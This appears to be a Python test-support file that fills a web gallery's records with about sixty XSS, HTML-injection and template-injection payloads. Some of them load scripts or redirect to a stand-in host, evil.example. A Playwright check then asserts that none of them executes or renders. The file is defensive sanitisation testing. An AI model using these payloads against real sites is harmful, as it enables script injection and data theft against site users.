"""Texts that try to be more than text, and where in an index they are put."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

from acumen.domain.attribute import Attribute, Facet
from acumen.domain.evidence import Evidence
from acumen.domain.index import ClusterLabel
from tests.support.gallery import Gallery, gallery

if TYPE_CHECKING:
    from playwright.sync_api import Page

RUN = "window.P=1"
_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    "<iframe srcdoc='<script>parent.P=1</script>'></iframe>",
    "<iframe src=javascript:parent.P=1></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><button>x</button></form>",
    f"<button onclick={RUN}>x</button>",
    "<a href=https://evil.example>free</a>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<x style=animation-name:x onanimationstart={RUN}>",
)
_BREAKS = (
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"' onmouseover='{RUN}",
    f'" onfocus="{RUN}" autofocus="',
    f"` onmouseover=`{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"[x](javascript:{RUN})",
    "![x](https://evil.example/pixel.png)",
    f"${{{RUN}}}{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{7*7}}}}#{{{RUN}}}<%= {RUN} %>",
    "//evil.example/%2e%2e/..\\..\\",
    "&lt;img src=x onerror=P=1&gt;&#60;script&#62;",
    "\u202e\u2066<b>turned</b>\u2069\x1b[31m\u200b",
    "__proto__",
    '{"props":{"children":"x"},"type":"Img","namespace":"dash_html_components"}',
)
PAYLOADS = _TAGS + _BREAKS


def hostile_gallery() -> Gallery:
    """The gallery with a payload in every text that a corpus can bring along."""
    base = gallery()
    records = list(base.index.templates)
    repositories = list(base.index.repositories)
    for row, payload in enumerate(PAYLOADS):
        record = records[row]
        path = f"{payload}.py"
        files = (replace(record.files[0], path=path, blob=f"{row:040x}"), record.files[1])
        base.code[f"{row:040x}"] = f"{payload}\n# {payload}\nx = '{payload}'\n"
        said = tuple(
            Attribute(facet, payload, 0.99, (Evidence(path, 1, 2),), rule=payload, known=False)
            for facet in (Facet.DATASET, Facet.FRAMEWORK, Facet.TASK, Facet.ARCHITECTURE)
        )
        template = replace(
            record.template,
            path=path,
            files=(path, record.template.files[1]),
            configs=(payload,),
            variants=(payload,),
            project_root=payload,
        )
        records[row] = replace(
            record,
            template=template,
            title=payload,
            summary=payload,
            attributes=(*record.attributes, *said),
            licence=replace(record.licence, spdx=payload, note=payload),
            files=files,
        )
    for place, repository in enumerate(repositories):
        payload = PAYLOADS[place % len(PAYLOADS)]
        repositories[place] = replace(repository, why=payload, url=payload)
    labels = tuple(
        ClusterLabel(payload, place % 8 - 4.0, place // 8 - 4.0, place % 2, 9)
        for place, payload in enumerate(PAYLOADS)
    )
    index = replace(
        base.index,
        templates=tuple(records),
        repositories=tuple(repositories),
        layout=replace(base.index.layout, labels=labels),
    )
    return Gallery(index, base.code)


def nothing_ran(page: Page) -> None:
    """No payload was executed, became an element, or leads away; nothing invisible is shown."""
    assert page.evaluate("window.P") is None
    made = page.evaluate(
        "[...document.querySelectorAll('main img:not(.map-picture), main iframe, main form, "
        "main style, main script, main base, main object, main embed, main video, main audio, "
        "main link, main meta, main svg:not(#map svg)')].map((e) => e.outerHTML.slice(0, 80))"
    )
    assert made == []
    handlers = page.evaluate(
        "[...document.querySelectorAll('main *')].filter((e) => [...e.attributes]"
        ".some((a) => a.name.startsWith('on') || (/^(href|src|action|data|.*:href)$/.test(a.name)"
        " && /^\\s*(javascript|data|vbscript):/i.test(a.value))))"
        ".map((e) => e.outerHTML.slice(0, 80))"
    )
    assert handlers == []
    bad = page.evaluate(
        "[...document.querySelectorAll('main a[href]')].map(a => a.href)"
        ".filter(h => !h.startsWith(location.origin) && !h.startsWith('https://github.com/')"
        " && h !== 'https://arxiv.org/abs/1910.11015')"
    )
    assert bad == []
    text = json.dumps(page.evaluate("document.body.innerText"), ensure_ascii=False)
    assert not set(text) & set("\u202e\u2066\u2069\u200b\x1b")
